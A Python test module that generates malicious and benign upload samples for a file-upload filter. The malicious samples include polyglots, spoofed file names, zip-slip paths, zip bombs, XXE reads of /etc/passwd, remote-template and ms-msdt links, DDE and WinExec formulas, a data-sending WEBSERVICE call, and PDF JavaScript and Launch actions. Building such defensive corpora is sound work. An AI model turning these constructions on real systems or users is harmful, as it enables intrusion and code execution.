"""Files as attackers make them and as people do: what an upload must refuse and what it must take.

All are made by script; nothing is downloaded. `MALICIOUS` holds families of variants, `GOOD` the files that
are as they should be: file name and a function that makes the bytes.
"""

import os
import shutil
import struct
import subprocess
import tempfile
import zipfile
from collections.abc import Callable
from functools import cache, partial
from pathlib import Path

from PIL import Image

from tests.harness.corpus_parts import (
    EICAR,
    OFFICE,
    PROGRAMS,
    SCRIPT,
    action,
    animated,
    docx_parts,
    encrypted,
    field,
    flood,
    heic,
    in_sheet,
    in_word,
    jpeg_flood,
    linked,
    lying,
    named,
    objects_stream,
    overlapping,
    parts_of,
    pdf,
    photo,
    saved,
    stream,
    tags,
    text_bomb,
    with_part,
    with_relation,
    with_text,
    workbook,
    xlsx_parts,
    zipped,
)

File = tuple[str, Callable[[], bytes]]
BEGIN = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
DOCUMENT, SHEET = "word/document.xml", "xl/worksheets/sheet1.xml"
RELS, ROOT_RELS = "word/_rels/document.xml.rels", "_rels/.rels"
MB = 1024 * 1024
LAUGHS = '<!DOCTYPE x [<!ENTITY a "ha">' + "".join(
    f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefgh", "bcdefghi", strict=True)
)


def docx_file() -> bytes:
    return zipped(docx_parts())


def wrong_magic() -> dict[str, File]:
    """Every kind of program under every suffix that is taken."""
    suffixes = ("docx", "jpg", "pdf", "png", "xlsx")
    return {
        f"{kind} as {suffix}": (f"资料.{suffix}", lambda data=data: data)
        for kind, data in PROGRAMS.items()
        for suffix in suffixes
    }


def wrong_kind() -> dict[str, File]:
    return {
        "docx as xlsx": ("表.xlsx", docx_file),
        "xlsx as docx": ("文.docx", lambda: zipped(xlsx_parts())),
        "zip as docx": ("文.docx", lambda: zipped({"a.txt": b"a"})),
        "empty zip as docx": ("文.docx", lambda: zipped({})),
        "jpeg as pdf": ("文.pdf", photo),
        "pdf as png": ("图.png", pdf),
        "macro type": (
            "文.docx",
            lambda: with_text(
                docx_parts(),
                "[Content_Types].xml",
                "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
                "application/vnd.ms-word.document.macroEnabled.main+xml",
            ),
        ),
        "template type": (
            "文.docx",
            lambda: with_text(
                docx_parts(), "[Content_Types].xml", "document.main", "template.main"
            ),
        ),
        "heic as jpg": ("照片.jpg", heic),
        "heic": ("照片.heic", heic),
    }


def polyglots() -> dict[str, File]:
    archive = partial(zipped, {"a.html": b"<script>"})
    return {
        "GIF and script": ("图.jpg", lambda: b"GIF89a/*" + bytes(50) + b"*/=1;alert(1)"),
        "JPEG then HTML": ("图.jpg", lambda: photo() + b"<html><script>alert(1)</script>"),
        "JPEG with HTML in a comment": ("图.jpg", lambda: photo(comment=b"<ScRipt>alert(1)</script>")),
        "PNG then PHP": ("图.png", lambda: saved(Image.new("L", (9, 9)), "PNG") + b"<?php eval(1);"),
        "PDF then zip": ("文.pdf", lambda: pdf() + archive()),
        "PDF then zip with a comment": (
            "文.pdf",
            lambda: pdf() + archive()[:-2] + struct.pack("<H", 16) + b"startxref\n%%EOF\n",
        ),
        "PDF then HTML": ("文.pdf", lambda: pdf() + b"<html><script>alert(1)</script>"),
        "HTML then PDF": ("文.pdf", lambda: b"<html>" + pdf()),
        "GIF then PDF": ("文.pdf", lambda: b"GIF89a\1\0\1\0\0\0\0;" + pdf()),
        "JPEG then PDF": ("文.pdf", lambda: photo()[:900] + pdf()),
        "script then PDF": ("文.pdf", lambda: b"\n#!/bin/sh\nexit\n" + pdf()),
        "PDF below its place": ("文.pdf", lambda: b"\n" * 1025 + pdf()),
        "HTML at the top of a PDF": (
            "文.pdf",
            lambda: pdf().replace(b"%PDF-1.7\n", b"%PDF-1.7\n%<script>alert(1)</script>\n", 1),
        ),
        "zip then docx": ("文.docx", lambda: archive() + docx_file()),
        "docx then PDF": ("文.docx", lambda: docx_file() + pdf()),
        "docx with a comment": ("文.docx", lambda: docx_file()[:-2] + b"\5\0<html"),
        "PDF in a comment of a docx": (
            "文.docx", lambda: docx_file()[:-2] + struct.pack("<H", len(pdf())) + pdf(),
        ),
    }  # fmt: skip


def names() -> dict[str, File]:
    bad = {
        "program last": "合同.pdf.exe",
        "program before": "合同.exe.pdf",
        "page before": "合同.html.docx",
        "php before": "照片.php.jpg",
        "blanks before the program": "合同.pdf          .exe",
        "blank in the suffix": "合同.exe .pdf",
        "right to left": "合同\u202excod.exe",
        "right to left, good suffix": "合同\u202efdp.docx",
        "isolate": "合同\u2066fdp.docx",
        "zero width": "合\u200b同.docx",
        "NUL": "合同.exe\0.docx",
        "NUL at the end": "合同.docx\0.exe",
        "line break": "合同\r\nX-Header: 1.docx",
        "escape": "合同\x1b[31m.docx",
        "dot at the end": "合同.docx.",
        "dot and blank": "合同.docx. ",
        "no suffix": "合同",
        "only a suffix": ".docx",
        "hidden": ".htaccess",
        "macros": "合同.docm",
        "old": "合同.doc",
        "full-width suffix": "合同.ｄｏｃｘ",
        "device": "CON.docx",
        "device, small": "com1.docx",
        "device with more": "nul.合同.docx",
        "drive": "C:合同.docx",
        "stream": "合同.exe:a.docx",
    }
    return {kind: (name, docx_file) for kind, name in bad.items()}


def zip_paths() -> dict[str, File]:
    places = {
        "up": "../../../tmp/x.xml",
        "up with backslash": "..\\..\\x.xml",
        "absolute": "/etc/cron.d/x.xml",
        "drive": "C:/x.xml",
        "in the middle": "word/../../x.xml",
        "dot": "word/./x.xml",
        "NUL": "word/x\0.xml",
        "double slash": "word//x.xml",
        "line break": "word/x\n.xml",
    }
    slips = {kind: ("文.docx", partial(named, name)) for kind, name in places.items()}
    return slips | {
        "symlink": ("文.docx", lambda: linked("word/media/image1.png", b"/etc/passwd")),
        "symlink to a folder": ("文.docx", lambda: linked("word/media/", b"/etc")),
        "twice the same name": (
            "文.docx",
            lambda: with_part(docx_parts(), "WORD/document.xml", docx_parts()[DOCUMENT]),
        ),
        "nested archive": ("文.docx", lambda: with_part(docx_parts(), "word/media/a.zip", docx_file())),
        "nested archive as picture": (
            "文.docx", lambda: with_part(docx_parts(), "word/media/a.png", docx_file()),
        ),
        "embedded workbook": (
            "文.docx",
            lambda: with_part(docx_parts(), "word/embeddings/a.xlsx", zipped(xlsx_parts())),
        ),
    }  # fmt: skip


def zip_bombs() -> dict[str, File]:
    picture = "word/media/image1.png"
    cells = b'<row r="1"/>'
    sheet = (
        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
    )
    return {
        "one dense part": ("文.docx", lambda: with_part(docx_parts(), picture, bytes(50 * MB))),
        "more than 100 MB": ("文.docx", lambda: with_part(docx_parts(), picture, bytes(101 * MB))),
        "many parts": (
            "文.docx",
            lambda: zipped(docx_parts() | {f"word/media/{n}.png": b"\x89PNG" for n in range(2000)}),
        ),
        "10,000 parts": (
            "文.docx",
            lambda: zipped(docx_parts() | {f"word/p{n}.xml": b"<x/>" for n in range(10_000)}),
        ),
        "says less than it is": ("文.docx", lambda: lying(docx_parts(), DOCUMENT, 100)),
        "says more than it is": ("文.docx", lambda: lying(docx_parts(), DOCUMENT, 90_000)),
        "says nothing": ("文.docx", lambda: lying(docx_parts(), DOCUMENT, 0)),
        "bomb that says 1 kB": (
            "文.docx",
            lambda: lying(docx_parts() | {picture: b"\x89PNG" + bytes(60 * MB)}, picture, 1000),
        ),
        "overlap of 20": ("文.docx", lambda: overlapping(docx_parts(), 20)),
        "overlap of 900": ("文.docx", lambda: overlapping(docx_parts(), 900)),
        "4 million rows": ("表.xlsx", lambda: zipped(xlsx_parts() | {SHEET: sheet + cells * 4_000_000})),
        "3 million different rows": (
            "表.xlsx",
            lambda: zipped(
                xlsx_parts()
                | {SHEET: sheet + b"".join(b'<row r="%d"/>' % n for n in range(3_100_000))}
            ),
        ),
        "15 million strings": (
            "表.xlsx",
            lambda: zipped(xlsx_parts() | {"xl/sharedStrings.xml": b"<sst>" + b"<si/>" * 15_000_000}),
        ),
        "a cell in the last corner": (
            "表.xlsx",
            lambda: in_sheet('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'),
        ),
        "merged to the last corner": (
            "表.xlsx",
            lambda: with_text(
                xlsx_parts(),
                SHEET,
                "</sheetData>",
                '</sheetData><mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>',
            ),
        ),
        "deep": ("文.docx", lambda: in_word("<w:r>" * 5000 + "</w:r>" * 5000)),
        "password": ("文.docx", encrypted),
        "bzip2": ("文.docx", lambda: zipped(docx_parts(), zipfile.ZIP_BZIP2)),
        "lzma": ("文.docx", lambda: zipped(docx_parts(), zipfile.ZIP_LZMA)),
    }  # fmt: skip


def broken() -> dict[str, File]:
    return {
        "0 bytes docx": ("文.docx", lambda: b""),
        "0 bytes jpg": ("图.jpg", lambda: b""),
        "0 bytes pdf": ("文.pdf", lambda: b""),
        "empty part": ("文.docx", lambda: zipped(docx_parts() | {DOCUMENT: b""})),
        "empty picture": ("文.docx", lambda: with_part(docx_parts(), "word/media/a.png", b"")),
        "half a docx": ("文.docx", lambda: docx_file()[:9000]),
        "half a PDF": ("文.pdf", lambda: pdf()[:600]),
        "half a JPEG": ("图.jpg", lambda: photo()[: len(photo()) // 2]),
        "a tenth of a JPEG": ("图.jpg", lambda: photo()[: len(photo()) // 10]),
        "half a PNG": ("图.png", lambda: saved(Image.effect_noise((90, 90), 50), "PNG")[:2500]),
        "only a beginning, jpg": ("图.jpg", lambda: b"\xff\xd8\xff\xe0" + bytes(40)),
        "only a beginning, png": ("图.png", lambda: b"\x89PNG\r\n\x1a\n" + bytes(40)),
        "only a beginning, pdf": ("文.pdf", lambda: b"%PDF-1.4\n"),
        "only a beginning, docx": ("文.docx", lambda: b"PK\3\4" + bytes(100)),
        "no main part": (
            "文.docx", lambda: zipped({n: d for n, d in docx_parts().items() if n != DOCUMENT}),
        ),
        "no XML": ("文.docx", lambda: zipped(docx_parts() | {DOCUMENT: b"hello"})),
        "other XML": ("文.docx", lambda: zipped(docx_parts() | {DOCUMENT: b"<html/>"})),
        "flipped byte": ("文.docx", lambda: flipped(docx_file(), 5000)),
        "document of 20 MB and 1": ("文.pdf", lambda: b"%PDF-1.4\n".ljust(20 * MB + 1)),
        "photo of 12 MB and 1": ("图.jpg", lambda: photo().ljust(12 * MB + 1)),
    }  # fmt: skip


def flipped(data: bytes, place: int) -> bytes:
    return data[:place] + bytes([data[place] ^ 0xFF]) + data[place + 1 :]


def entities() -> dict[str, File]:
    doctype = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
    remote = '<!DOCTYPE x SYSTEM "http://127.0.0.1:1/x.dtd">'
    parts = {
        "文.docx": (
            docx_parts,
            [DOCUMENT, "word/styles.xml", "[Content_Types].xml", ROOT_RELS, RELS],
        ),
        "表.xlsx": (xlsx_parts, ["xl/workbook.xml", "xl/sharedStrings.xml", SHEET]),
    }
    found = {}
    for file_name, (make, names_) in parts.items():
        for name in names_:
            for kind, text in {"laughs": f"{LAUGHS}]>", "file": doctype, "remote": remote}.items():
                found[f"{kind} in {name}"] = (file_name, partial(with_doctype, make, name, text))
    return found


def with_doctype(make: Callable[[], dict], name: str, doctype: str) -> bytes:
    declaration, _, rest = make()[name].decode().partition("?>")
    return zipped(make() | {name: f"{declaration}?>{doctype}{rest}".encode()})


def reaching_out() -> dict[str, File]:
    relations = {
        "remote template": (f"{OFFICE}/attachedTemplate", "http://127.0.0.1/a.dotm"),
        "template on a share": (f"{OFFICE}/attachedTemplate", r"\\192.0.2.1\a\b.dotm"),
        "template on a share by file": (f"{OFFICE}/attachedTemplate", "file://192.0.2.1/a.dotm"),
        "remote picture": (f"{OFFICE}/image", "http://127.0.0.1/a.png"),
        "picture on a share": (f"{OFFICE}/image", "file://192.0.2.1/a.png"),
        "remote frame": (f"{OFFICE}/frame", "http://127.0.0.1/a.html"),
        "remote object": (f"{OFFICE}/oleObject", "mhtml:http://127.0.0.1/a.html!x-usc"),
        "sub document": (f"{OFFICE}/subDocument", "file:///C:/a.docx"),
        "chunk": (f"{OFFICE}/aFChunk", "http://127.0.0.1/a.htm"),
        "script link": (f"{OFFICE}/hyperlink", "javascript:alert(1)"),
        "protocol link": (f"{OFFICE}/hyperlink", "ms-msdt:/id PCWDiagnostic"),
        "share link": (f"{OFFICE}/hyperlink", r"\\192.0.2.1\a"),
        "file share link": (f"{OFFICE}/hyperlink", "file://192.0.2.1/a"),
    }
    found = {
        kind: ("文.docx", partial(with_relation, docx_parts(), RELS, type_, target))
        for kind, (type_, target) in relations.items()
    }
    formulas = {
        "DDE": "cmd|'/C calc'!A0",
        "DDE with sign": "+cmd|' /C calc'!A0",
        "web service": 'WEBSERVICE("http://127.0.0.1/"&amp;A1)',
        "call": 'CALL("kernel32","WinExec","JCJ","calc",0)',
        "register": 'REGISTER.ID("kernel32","WinExec")',
    }
    for kind, formula in formulas.items():
        cell = f'<row r="9"><c r="A9"><f>{formula}</f><v>0</v></c></row>'
        found[f"formula {kind}"] = ("表.xlsx", partial(in_sheet, cell))
    fields = {
        "DDEAUTO": field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" '),
        "DDE in pieces": field("D", "D", "E c:\\\\cmd.exe"),
        "DDE made by a field": BEGIN + field(" QUOTE 68 68 69 "),
        "remote picture field": field(' INCLUDEPICTURE "http://127.0.0.1/a.png" \\d '),
        "remote text field": field(' INCLUDETEXT "http://127.0.0.1/a.docx" '),
        "simple DDE": '<w:fldSimple w:instr=" DDEAUTO cmd calc "/>',
    }
    for kind, xml in fields.items():
        found[f"field {kind}"] = ("文.docx", partial(in_word, xml))
    return found | {
        "external workbook": (
            "表.xlsx",
            lambda: with_part(xlsx_parts(), "xl/externalLinks/externalLink1.xml"),
        ),
        "connections": ("表.xlsx", lambda: with_part(xlsx_parts(), "xl/connections.xml")),
    }


def acting() -> dict[str, File]:
    parts = {
        "vbaProject": "word/vbaProject.bin",
        "vbaProject in capitals": "word/VBAPROJECT.BIN",
        "macro sheet": "xl/macrosheets/sheet1.xml",
        "ActiveX": "word/activeX/activeX1.xml",
        "OLE object": "word/embeddings/oleObject1.bin",
        "custom ribbon": "customUI/customUI14.xml",
        "web extension": "word/webextensions/taskpanes.xml",
        "program": "word/media/run.exe",
        "script": "word/media/run.js",
        "page": "word/afchunk.htm",
        "unknown binary": "word/data.bin",
    }
    found = {
        kind: ("文.docx", partial(with_part, docx_parts(), name)) for kind, name in parts.items()
    }
    media = {
        "program as picture": PROGRAMS["exe"],
        "OLE as picture": PROGRAMS["old-office"],
        "script as picture": PROGRAMS["shell"],
        "EICAR as picture": EICAR,
        "page as picture": PROGRAMS["html"],
    }
    for kind, data in media.items():
        found[kind] = ("文.docx", partial(with_part, docx_parts(), "word/media/a.png", data))
    return found | {
        "OLE as font": (
            "文.docx",
            lambda: with_part(docx_parts(), "word/fonts/font1.odttf", PROGRAMS["old-office"]),
        ),
        "script in svg": (
            "文.docx", lambda: with_part(docx_parts(), "word/media/a.svg", PROGRAMS["svg"]),
        ),
        "macros under another name": (
            "文.docx",
            lambda: with_relation(
                docx_parts(),
                RELS,
                "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
                "styles.xml",
                "Internal",
            ),
        ),
        "macros by type": (
            "文.docx",
            lambda: with_text(
                docx_parts(),
                "[Content_Types].xml",
                "</Types>",
                '<Override PartName="/word/a.xml" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
            ),
        ),
    }  # fmt: skip


def pictures() -> dict[str, File]:
    return {
        "PNG flood": ("图.png", lambda: flood(50_000, 50_000)),
        "PNG flood, wide": ("图.png", lambda: flood(2**31 - 1, 1, rows=0)),
        "PNG just too large": ("图.png", lambda: flood(5001, 5000)),
        "JPEG flood": ("图.jpg", lambda: jpeg_flood(65_000, 65_000)),
        "no pixels": ("图.png", lambda: flood(0, 0)),
        "text bomb": ("图.png", text_bomb),
        "animated PNG": ("图.png", lambda: animated("PNG")),
        "animated GIF": ("图.jpg", lambda: animated("GIF")),
        "animated WebP": ("图.jpg", lambda: animated("WEBP")),
        "TIFF": ("图.jpg", lambda: saved(Image.new("L", (9, 9)), "TIFF")),
        "BMP": ("图.png", lambda: saved(Image.new("L", (9, 9)), "BMP")),
    }


def pdfs() -> dict[str, File]:
    address = action(b"URI", b"/URI (http://127.0.0.1/)")
    elsewhere, going = b"/OpenAction 100 0 R", b"<< /S /GoTo /D [10 0 R /Fit] /Next 101 0 R >>"
    catalogs = {
        "script on opening": (b"/OpenAction " + SCRIPT, []),
        "script on opening, elsewhere": (elsewhere, [SCRIPT]),
        "script in the names": (b"/Names << /JavaScript << /Names [(a) 100 0 R] >> >>", [b"[]"]),
        "escaped name": (b"/OpenAction << /S /J#61vaScr#69pt /JS (app.alert(1)) >>", []),
        "all escaped": (b"/OpenAction << /S /#4a#61#76#61#53#63#72#69#70#74 >>", []),
        "escaped short name": (b"/OpenAction << /S /X /#4aS (app.alert(1)) >>", []),
        "program on opening": (b"/OpenAction " + action(b"Launch", b"/F (cmd.exe)"), []),
        "address on opening": (b"/OpenAction " + address, []),
        "address on opening, elsewhere": (elsewhere, [address]),
        "address on opening, packed": (b"/OpenAction 200 0 R", [objects_stream(address)]),
        "address on opening, escaped": (b"/Open#41ction " + address, []),
        "address after going": (b"/OpenAction " + going, [b"[]", address]),
        "address before going": (
            b"/OpenAction << /Next 100 0 R /S /GoTo /D [10 0 R /Fit] >>", [address],
        ),
        "nothing on opening": (b"/OpenAction 999 0 R", []),
        "action on closing": (b"/AA << /WC 100 0 R >>", [address]),
        "other file": (b"/OpenAction " + action(b"GoToR", b"/F (a.pdf)"), []),
        "embedded": (b"/OpenAction " + action(b"GoToE", b"/T << >>"), []),
        "files": (b"/Names << /EmbeddedFiles << /Names [(a.exe) 100 0 R] >> >>", [b"<< >>"]),
        "form as XML": (b"/AcroForm << /XFA 100 0 R >>", [b"[]"]),
    }  # fmt: skip
    found = {
        kind: ("文.pdf", partial(pdf, *extra, catalog=text))
        for kind, (text, extra) in catalogs.items()
    }
    objects = {
        "embedded file": stream(PROGRAMS["exe"], b"/Type /EmbeddedFile"),
        "file without type": b"<< /Type /Filespec /F (a.exe) /EF << /F 100 0 R >> >>",
        "attachment note": b"<< /Type /Annot /Subtype /FileAttachment >>",
        "rich media": b"<< /Type /Annot /Subtype /RichMedia >>",
        "sends the form": action(b"SubmitForm", b"/F (http://127.0.0.1/)"),
        "imports data": action(b"ImportData", b"/F (a.fdf)"),
        "packed object": objects_stream(SCRIPT),
        "packed object, escaped": objects_stream(b"<< /S /#4aavaScript /#4aS (x) >>"),
        "packed short name": objects_stream(b"<< /S /Rendi#74ion /JS (x) >>"),
        "packed and called a picture": objects_stream(SCRIPT, b"/Subtype /Image"),
        "packed twice": stream(
            SCRIPT.hex().encode() + b">", b"/Type /ObjStm /N 1 /First 0 /Filter /ASCIIHexDecode"
        ),
        "packed with predictor": objects_stream(b"<< >>", b"/DecodeParms << /Predictor 12 >>"),
        "hidden in a stream": stream(SCRIPT, packed=True),
        "bomb": stream(bytes(200 * MB), packed=True),
    }
    for kind, body in objects.items():
        found[kind] = ("文.pdf", partial(pdf, body))
    return found | {
        "password": ("文.pdf", lambda: pdf(b"<< /V 2 >>", trailer=b" /Encrypt 100 0 R"))
    }


MALICIOUS: dict[str, Callable[[], dict[str, File]]] = {
    family.__name__: family
    for family in (wrong_magic, wrong_kind, polyglots, names, zip_paths, zip_bombs, broken, entities,
                   reaching_out, acting, pictures, pdfs)
}  # fmt: skip


def malicious(count: int | None = None) -> dict[str, File]:
    """All, or the first `count` when one of each family is taken in turn."""
    lists = [
        [(f"{name}: {kind}", file) for kind, file in family().items()]
        for name, family in MALICIOUS.items()
    ]
    longest = max(map(len, lists))
    turns = [files[turn] for turn in range(longest) for files in lists if turn < len(files)]
    return dict(turns[:count])


# -- files as people have them


def good() -> dict[str, File]:
    return good_documents() | good_pictures() | good_pdfs()


def good_documents() -> dict[str, File]:
    import docx as word

    def report(**options) -> bytes:
        document = word.Document()
        document.add_heading("高新区重点项目周调度通报", 0)
        for number in range(options.get("paragraphs", 3)):
            document.add_paragraph(f"{number}. 演示项目01：完成投资 1,200 万元，占年度计划 45%。")
        if options.get("table"):
            table = document.add_table(rows=30, cols=6, style="Table Grid")
            for row in table.rows:
                for cell in row.cells:
                    cell.text = "已办结"
        if options.get("picture"):
            import io

            document.add_picture(io.BytesIO(photo()))
            document.add_picture(io.BytesIO(saved(Image.new("RGB", (30, 30), "blue"), "PNG")))
        if options.get("footer"):
            document.sections[0].footer.paragraphs[0].text = "第 1 页"
        return zipped(parts_of(document))

    link = partial(with_relation, docx_parts(), RELS, f"{OFFICE}/hyperlink")
    rows = [[f"演示项目{n:02}", n * 1.5, "开工", f"=不是公式{n}"] for n in range(500)]
    return {
        "docx plain": ("通知.docx", docx_file),
        "docx long": ("长治高新区2026年第47期周调度通报（征求意见稿）.docx", partial(report, paragraphs=800)),
        "docx table": ("清单 一览表.docx", partial(report, table=True)),
        "docx pictures": ("现场照片.docx", partial(report, picture=True)),
        "docx footer": ("report.v1.2.docx", partial(report, footer=True)),
        "docx capitals": ("方案.DOCX", docx_file),
        "docx web link": ("a&b.docx", partial(link, "https://www.changzhi.gov.cn/x?a=1")),
        "docx mail link": ("联系方式.docx", partial(link, "mailto:a@example.com")),
        "docx relative link": ("附件.docx", partial(link, "附件1.xlsx")),
        "docx own template": (
            "模板.docx",
            partial(
                with_relation, docx_parts(), "word/_rels/settings.xml.rels",
                f"{OFFICE}/attachedTemplate", "file:///C:\\Users\\a\\公文.dotx",
            ),
        ),
        "docx fields": (
            "目录.docx",
            lambda: in_word(field(" TOC \\o &quot;1-3&quot; \\h ") + field(" PAGE ") + field(" SEQ 表 ")),
        ),
        "docx stored": ("不压缩.docx", lambda: zipped(docx_parts(), zipfile.ZIP_STORED)),
        "docx font": (
            "字体.docx", lambda: with_part(docx_parts(), "word/fonts/font1.odttf", os.urandom(9000)),
        ),
        "xlsx plain": ("台账.xlsx", lambda: workbook(rows[:5])),
        "xlsx long": ("台账（全）.xlsx", lambda: workbook(rows * 20)),
        "xlsx links and formulas": (
            "测算.xlsx",
            lambda: workbook([["=SUM(B2:B9)", "https://example.com"], ["=IF(A1=\"a|b\",1,2)", 3]]),
        ),
        "xlsx text that looks like a command": (
            "文字.xlsx", lambda: workbook([["=cmd|'/C calc'!A0"]], strings_to_formulas=False),
        ),
        "xlsx printer": (
            "打印.xlsx",
            lambda: with_part(xlsx_parts(), "xl/printerSettings/printerSettings1.bin", os.urandom(500)),
        ),
        "xlsx many columns": ("宽表.xlsx", lambda: workbook([list(range(300))] * 60)),
    }  # fmt: skip


def good_pictures() -> dict[str, File]:
    upright = {
        f"jpeg orientation {n}": (f"IMG_{n}.jpg", partial(photo, exif=tags(orientation=n)))
        for n in range(1, 9)
    }
    return upright | {
        "jpeg large": ("大图.jpg", partial(photo, size=(4000, 3000), exif=tags())),
        "jpeg progressive": ("渐进.jpeg", partial(photo, progressive=True, exif=tags())),
        "jpeg without tags": ("微信图片_20241108.jpg", photo),
        "jpeg odd day": ("相机没电.jpg", partial(photo, exif=tags(taken="0000:00:00 00:00:00"))),
        "jpeg grey": ("扫描件.jpg", lambda: saved(Image.new("L", (300, 300), 99), "JPEG")),
        "jpeg cmyk": ("印刷.jpg", lambda: saved(Image.new("CMYK", (300, 300)), "JPEG")),
        "jpeg with more behind": ("动态照片.jpg", lambda: photo(exif=tags()) + b"\0\0\0\x18ftypmp42" * 99),
        "png plain": ("截图.png", lambda: saved(Image.new("RGB", (800, 600), "red"), "PNG")),
        "png transparent": ("印章.png", lambda: saved(Image.new("RGBA", (80, 60)), "PNG")),
        "png palette": ("图例.png", lambda: saved(Image.new("P", (80, 60)), "PNG", transparency=0)),
        "png black and white": ("图纸.png", lambda: saved(Image.new("1", (800, 600), 1), "PNG")),
        "png 16 bit": ("深度.png", lambda: saved(Image.new("I;16", (80, 60)), "PNG")),
        "png with tags": (
            "手机截图.png", lambda: saved(Image.new("RGB", (80, 60)), "PNG", exif=tags()),
        ),
        "png called jpg": ("聊天图片.jpg", lambda: saved(Image.new("RGB", (80, 60)), "PNG")),
    }  # fmt: skip


def good_pdfs() -> dict[str, File]:
    objects = b"<< /Type /ExtGState /ca 1 >>"
    written = {
        "pdf plain": ("批复.pdf", pdf),
        "pdf after a mark of the encoding": ("扫描件.pdf", lambda: b"\xef\xbb\xbf" + pdf()),
        "pdf after blank lines": ("批文.pdf", lambda: b"\r\n\r\n" + pdf()),
        "pdf after a job ticket": (
            "打印.pdf", lambda: b"\x1b%-12345X@PJL JOB\r\n@PJL ENTER LANGUAGE=PDF\r\n" + pdf(),
        ),
        "pdf at its last place": ("附件.pdf", lambda: b" " * 1018 + b"\n" + pdf()),
        "pdf long": ("环评报告 全本.pdf", partial(pdf, pages=200)),
        "pdf packed objects": ("红头文件.pdf", partial(pdf, objects_stream(objects))),
        "pdf goes to a page": ("a.pdf", partial(pdf, catalog=b"/OpenAction [10 0 R /Fit]")),
        "pdf goes to a page by action": (
            "b.PDF",
            partial(pdf, action(b"GoTo", b"/D [10 0 R /Fit]"), catalog=b"/OpenAction 100 0 R"),
        ),
        "pdf link": (
            "c.pdf", partial(pdf, b"<< /Subtype /Link /A << /S /URI /URI (https://example.com) >> >>"),
        ),
        "pdf scan": (
            "扫描.pdf",
            lambda: pdf(stream(photo(), b"/Subtype /Image /Filter /DCTDecode /Width 640 /Height 480")),
        ),
        "pdf of 20 MB": ("大文件.pdf", lambda: pdf(stream(os.urandom(20 * MB - 2000), b"/Subtype /Image"))),
    }  # fmt: skip
    if shutil.which("soffice"):
        written["pdf by LibreOffice"] = ("转换.pdf", converted)
    return written


@cache
def converted() -> bytes:
    with tempfile.TemporaryDirectory() as folder:
        Path(folder, "a.docx").write_bytes(docx_file())
        profile = f"-env:UserInstallation={Path(folder, 'profile').as_uri()}"
        command = ["soffice", profile, "--headless", "--convert-to", "pdf", "--outdir", folder]
        subprocess.run([*command, f"{folder}/a.docx"], check=True, capture_output=True, timeout=120)
        return Path(folder, "a.pdf").read_bytes()
